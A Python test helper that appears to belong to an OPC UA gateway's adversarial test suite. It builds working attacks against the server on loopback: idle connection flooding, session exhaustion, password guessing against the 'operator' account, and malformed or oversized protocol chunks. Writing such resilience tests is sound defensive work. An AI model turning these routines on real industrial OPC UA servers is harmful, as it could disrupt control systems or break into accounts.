"""The OPC UA attacks of issue 41: primitives for the tests, and the combined attack as a script.

Imported, it gives test_opcua_attacks.py its primitives (raw channels from a
loopback address of their own, sessions never activated, malformed chunks)
and conftest.py its :func:`unsecured_channel`.

Run as ``python opcua_attacker.py URL``, it runs the combined attack of
``test_a_well_behaved_client_keeps_reading_through_the_attacks`` against the
server at *URL*: 18 idle connections from :data:`SECOND_ATTACKER`, then four
attacks from :data:`ATTACKER`, each repeated until told to stop (its stdin
closes, or SIGTERM), then one JSON line: each attack's rounds and errors.
It runs in a process of its own, as tests/adversarial/attacker.py does,
because the test's lag probe measures its process's event loop: attackers on
that loop had their own work (2,000 chunks built, answers parsed) charged to
the gateway (a clean run's probe saw 1.125 s).

As a script it needs asyncua and the standard library only: no pytest, no
gateway, no conftest (the script's directory is on its ``sys.path``, the
tests' packages are not).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import signal
import struct
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

from asyncua import Client, ua
from asyncua.client.ua_client import UaClient, UaClientState, UASocketState
from asyncua.ua.ua_binary import nodeid_to_binary, struct_to_binary
from asyncua.ua.uaerrors import UaStatusCodeError

#: The user every secure test logs in as (conftest.py's gateway knows it).
USER = "operator"
CLIENT_URI = "urn:sj300-async:test-client"
#: Where attacks come from: Linux routes all of 127/8 to the loopback, and the gateway
#: tells addresses apart.
ATTACKER, SECOND_ATTACKER = "127.0.0.2", "127.0.0.3"
#: The combined attack's connections that say nothing, past their address's share.
IDLE = 18


def port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def from_address(uaclient: UaClient, source: str) -> None:
    """Make *uaclient* connect from the loopback address *source* (asyncua binds none)."""

    async def connect_socket(host: str, port: int) -> None:
        loop = asyncio.get_running_loop()
        await loop.create_connection(uaclient._make_protocol, host, port, local_addr=(source, 0))
        uaclient._set_state(UaClientState.SOCKET_OPEN)

    uaclient.connect_socket = connect_socket


@contextlib.asynccontextmanager
async def unsecured_channel(url: str, source: str | None = None) -> AsyncIterator[UaClient]:
    """asyncua's raw client on a SecurityPolicy None channel with no certificate at all,
    connecting from the loopback address *source* when given."""
    client = UaClient(timeout=10)
    if source is not None:
        from_address(client, source)
    await client.connect_socket("127.0.0.1", port(url))
    try:
        await client.send_hello(url)
        params = ua.OpenSecureChannelParameters(
            RequestType=ua.SecurityTokenRequestType.Issue,
            SecurityMode=ua.MessageSecurityMode.None_,
            ClientNonce=b"",
            RequestedLifetime=3_600_000,
        )
        await client.open_secure_channel(params)
        yield client
    finally:
        with contextlib.suppress(Exception):
            client.disconnect_socket()


def _create(url: str) -> ua.CreateSessionParameters:
    return ua.CreateSessionParameters(
        ClientNonce=b"\0" * 32,
        SessionName="never activated",
        RequestedSessionTimeout=60_000,
        EndpointUrl=url,
        MaxResponseMessageSize=0,
    )


async def _sessions(client: UaClient, url: str, count: int) -> list[str]:
    """*count* CreateSession on *client*'s channel, never activated: each one's answer."""
    answers = []
    for _ in range(count):
        try:
            await client.create_session(_create(url))
            answers.append("Good")
        except UaStatusCodeError as refused:
            answers.append(ua.StatusCode(refused.code).name)
    return answers


# -- malformed messages -----------------------------------------------------------------------


def _hello(url: str) -> bytes:
    body: bytes = struct_to_binary(ua.Hello(EndpointUrl=url))
    return b"HELF" + struct.pack("<I", 8 + len(body)) + body


def _chunk(channel_id: int, token_id: int, sequence: int, body: bytes) -> bytes:
    """A MSG chunk of the None policy (no signature, no padding)."""
    payload = struct.pack("<III", token_id, sequence, sequence) + body
    return b"MSGF" + struct.pack("<II", 12 + len(payload), channel_id) + payload


def _request(typeid: int, tail: bytes) -> bytes:
    head: bytes = nodeid_to_binary(ua.NodeId(typeid)) + struct_to_binary(ua.RequestHeader())
    return head + tail


async def _raw(url: str, first: bytes) -> bytes:
    """HEL, then *first*, from the attacker's address: all the server answered until it
    closed the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port(url), local_addr=(ATTACKER, 0))
    try:
        writer.write(_hello(url))
        header = await reader.readexactly(8)
        assert header[:3] == b"ACK"
        await reader.readexactly(struct.unpack("<I", header[4:])[0] - 8)
        writer.write(first)
        answered: bytes = await asyncio.wait_for(reader.read(), 10)  # until the server closes
        return answered
    finally:
        writer.close()


async def _on_channel(url: str, make: Callable[[Any], bytes]) -> bytes:
    """*make*(the channel's connection) written on an open unsecured channel: all the
    server answered until it closed the connection."""
    async with unsecured_channel(url, ATTACKER) as client:
        protocol = client.protocol
        assert protocol is not None
        assert protocol.transport is not None
        answered: list[bytes] = []
        protocol.data_received = answered.append
        # The server's close is waited for as the transport reports it (tests/waiting.py
        # is not importable where this runs as a script).
        closed = asyncio.Event()
        lost = protocol.connection_lost

        def connection_lost(exc: Exception | None) -> None:
            lost(exc)
            closed.set()

        protocol.connection_lost = connection_lost
        protocol.transport.write(make(protocol._connection))
        if protocol.state is not UASocketState.CLOSED:
            try:
                await asyncio.wait_for(closed.wait(), 10)
            except TimeoutError:
                raise AssertionError("the server kept the connection open for 10 s") from None
        joined: bytes = b"".join(answered)
        return joined


def _wrong_tokens(connection: Any, count: int = 1) -> bytes:
    """*count* chunks with a wrong token id (issue 41's: 2,000, 48 KB)."""
    channel_id = connection.security_token.ChannelId
    body = _request(ua.ObjectIds.ReadRequest_Encoding_DefaultBinary, b"")
    return b"".join(_chunk(channel_id, 999, 100 + n, body[:4]) for n in range(count))


def _undecodable(connection: Any) -> bytes:
    """A well-made chunk whose CreateSession cannot be decoded (a string of 2 GiB)."""
    body = _request(ua.ObjectIds.CreateSessionRequest_Encoding_DefaultBinary, b"\xff\xff\xff\x7f")
    data: bytes = connection.message_to_binary(body, request_id=7)
    return data


# -- the combined attack, as a script ---------------------------------------------------------


class Combined:
    """The combined test's four attacks on *url*, each repeated until :attr:`stop`.

    A round that raised is counted under its error's name and the attack goes on (the
    server closing a connection mid-round is what several of them are after); the
    report's rounds are those that ran to their end.
    """

    def __init__(self, url: str) -> None:
        self.url = url
        self.stop = asyncio.Event()
        self.rounds: Counter[str] = Counter()
        self.errors: dict[str, Counter[str]] = {}
        self.answers: Counter[str] = Counter()  # the sessions' CreateSession answers

    async def sessions(self) -> None:
        """100 sessions never activated (issue 41's), held until told to stop."""
        async with contextlib.AsyncExitStack() as stack:
            for _ in range(4):
                client = await stack.enter_async_context(unsecured_channel(self.url, ATTACKER))
                self.answers.update(await _sessions(client, self.url, 25))
            await self.stop.wait()

    async def passwords(self) -> None:
        attacker = Client(self.url, timeout=10)
        attacker.application_uri = CLIENT_URI
        from_address(attacker.uaclient, ATTACKER)
        async with attacker:
            for n in range(50):
                with contextlib.suppress(UaStatusCodeError):
                    await attacker.activate_session(USER, f"guess-{n}")

    async def chunks(self) -> None:
        await _on_channel(self.url, _wrong_tokens)
        await _on_channel(self.url, lambda connection: _wrong_tokens(connection, 2000))
        await _on_channel(self.url, _undecodable)

    async def raw(self) -> None:
        create = _request(ua.ObjectIds.CreateSessionRequest_Encoding_DefaultBinary, b"")
        await _raw(self.url, _chunk(0, 0, 1, create + struct_to_binary(_create(self.url))))
        await _raw(self.url, b"MSGF" + struct.pack("<II", 2**31, 0) + b"\0" * 4096)

    async def again(self, name: str, attack: Callable[[], Awaitable[None]]) -> None:
        errors = self.errors.setdefault(name, Counter())
        while not self.stop.is_set():
            try:
                await attack()
                self.rounds[name] += 1
            except Exception as error:  # any: the report names it, the attack goes on
                errors[type(error).__name__] += 1

    async def run(self) -> dict[str, Any]:
        """Attack until :attr:`stop` is set; the report."""
        idle = [  # connections that say nothing, past the address's share
            await asyncio.open_connection(
                "127.0.0.1", port(self.url), local_addr=(SECOND_ATTACKER, 0)
            )
            for _ in range(IDLE)
        ]
        attacks = {
            "sessions": self.sessions,
            "passwords": self.passwords,
            "chunks": self.chunks,
            "raw": self.raw,
        }
        tasks = [asyncio.create_task(self.again(n, a)) for n, a in attacks.items()]
        try:
            await self.stop.wait()
        finally:
            self.stop.set()
            # A round under way ends by itself (every wait in it is bounded); were one
            # stuck, the test's timeout kills this process.
            await asyncio.gather(*tasks)
            for _, writer in idle:
                writer.close()
        return {
            name: {"rounds": self.rounds[name], "errors": dict(self.errors[name])}
            for name in attacks
        } | {"idle": len(idle), "session_answers": dict(self.answers)}


async def _main(url: str) -> dict[str, Any]:
    """The combined attack on *url* until stdin closes or SIGTERM comes: its report."""
    combined = Combined(url)
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, combined.stop.set)
    stdin = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(stdin), sys.stdin)

    async def until_eof() -> None:
        await stdin.read()
        combined.stop.set()

    watch = asyncio.create_task(until_eof())
    try:
        return await combined.run()
    finally:
        watch.cancel()


def main() -> None:
    # asyncua warns of every refusal (thousands a run): errors only, on stderr.
    logging.basicConfig(level=logging.ERROR, format="opcua_attacker: %(name)s: %(message)s")
    report = asyncio.run(_main(sys.argv[1]))
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
